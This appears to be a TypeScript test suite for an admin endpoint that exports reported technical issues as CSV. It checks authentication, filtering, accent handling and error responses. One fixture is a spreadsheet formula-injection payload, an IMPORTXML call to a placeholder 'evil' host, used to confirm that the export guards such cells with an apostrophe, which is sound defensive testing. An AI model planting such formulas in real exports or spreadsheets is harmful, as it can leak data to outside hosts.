import { describe, expect, it } from "vitest";
import type { Issue } from "@contract/issues";
import { technicalIssues } from "../../db/schema";
import { csvDownload } from "../../test/csv-download";
import { suiteWithAdmin, testDrivers } from "../../test/test-runtime";

const HEADER = [
  "ID", "Reported", "Status", "Reporter email", "Lead ID", "Description", "Screenshot URL", "Proposal", "Reviewed by", "Reviewed", "Reviewer notes", "Updated",
];

describe.each(testDrivers)("technical issues CSV export on %s", (driver) => {
  const suite = suiteWithAdmin(driver);

  /** An issue written straight to the table (no proposal job), in the given state. */
  async function storedIssue(description: string, status: Issue["status"], extra: Partial<typeof technicalIssues.$inferInsert> = {}) {
    const [row] = await suite.rt.ctx.db
      .insert(technicalIssues)
      .values({ email: "reporter@example.com", description, status, ...extra })
      .returning({ id: technicalIssues.id });
    return row!.id;
  }

  it("answers 401 JSON when signed out", async () => {
    const res = await suite.rt.client().get("/api/issues/export.csv");
    expect(res.status).toBe(401);
    expect(res.body).toEqual({ error: expect.any(String), code: "request.unauthorized" });
  });

  it("sends the header row only when no issue matches", async () => {
    expect(csvDownload(await suite.admin.get("/api/issues/export.csv"), "technical-issues")).toEqual([HEADER]);
  });

  it("exports the issues the list's q and status match, newest first, accents intact and formula-like text guarded", async () => {
    const accented = await storedIssue("La página de facturación muestra «vacío», ¿por qué?", "open", { screenshotUrl: "https://shots.example.com/1.png" });
    const formula = await storedIssue('=IMPORTXML("http://evil","//a") in the billing table', "approved", {
      aiRepairLog: { summary: "+Fix the table's empty state", codeDiff: "", timestamp: "2026-01-01T00:00:00.000Z", source: { kind: "retrieval", model: null, endpoint: null }, references: [] },
      reviewedBy: "ada@leadwell.test",
      reviewedAt: new Date("2026-01-02T10:00:00.000Z"),
      manualNotes: "Multi-line\nnotes, with a comma",
    });
    const other = await storedIssue("The chart legend overlaps on mobile", "rejected");

    const all = csvDownload(await suite.admin.get("/api/issues/export.csv"), "technical-issues");
    expect(all[0]).toEqual(HEADER);
    expect(all.slice(1).map((r) => r[0])).toEqual([String(other), String(formula), String(accented)]);
    const byId = new Map(all.slice(1).map((r) => [r[0], r]));
    expect(byId.get(String(accented))!.slice(2, 8)).toEqual([
      "open", "reporter@example.com", "", "La página de facturación muestra «vacío», ¿por qué?", "https://shots.example.com/1.png", "",
    ]);
    expect(byId.get(String(formula))!.slice(5, 11)).toEqual([
      `'=IMPORTXML("http://evil","//a") in the billing table`, "", "'+Fix the table's empty state", "ada@leadwell.test", "2026-01-02T10:00:00.000Z", "Multi-line\nnotes, with a comma",
    ]);

    // q is case- and accent-insensitive, as in the list.
    const searched = csvDownload(await suite.admin.get("/api/issues/export.csv?q=FACTURACION"), "technical-issues");
    expect(searched.slice(1).map((r) => r[0])).toEqual([String(accented)]);
    const approved = csvDownload(await suite.admin.get("/api/issues/export.csv?status=approved"), "technical-issues");
    expect(approved.slice(1).map((r) => r[0])).toEqual([String(formula)]);
    const both = csvDownload(await suite.admin.get("/api/issues/export.csv?q=table&status=rejected"), "technical-issues");
    expect(both).toEqual([HEADER]);
    // The list answers the same issues for the same filters.
    const listed = await suite.admin.get<Issue[]>("/api/issues?q=the&status=approved");
    const exported = csvDownload(await suite.admin.get("/api/issues/export.csv?q=the&status=approved"), "technical-issues");
    expect(exported.slice(1).map((r) => Number(r[0]))).toEqual(listed.body.map((i) => i.id));
  });

  it("refuses a bad filter with 400 JSON naming it, before any CSV is sent", async () => {
    const badStatus = await suite.admin.get("/api/issues/export.csv?status=done");
    expect(badStatus.status).toBe(400);
    expect(badStatus.headers["content-type"]).toMatch(/^application\/json/);
    expect(badStatus.body).toMatchObject({ fields: { status: expect.any(String) } });
    const longQ = await suite.admin.get(`/api/issues/export.csv?q=${"x".repeat(201)}`);
    expect(longQ.status).toBe(400);
    expect(longQ.body).toMatchObject({ fields: { q: "Maximum 200 characters allowed" } });
    const paged = await suite.admin.get("/api/issues/export.csv?limit=10");
    expect(paged.status).toBe(400);
    expect(paged.headers["content-type"]).toMatch(/^application\/json/);
  });
});
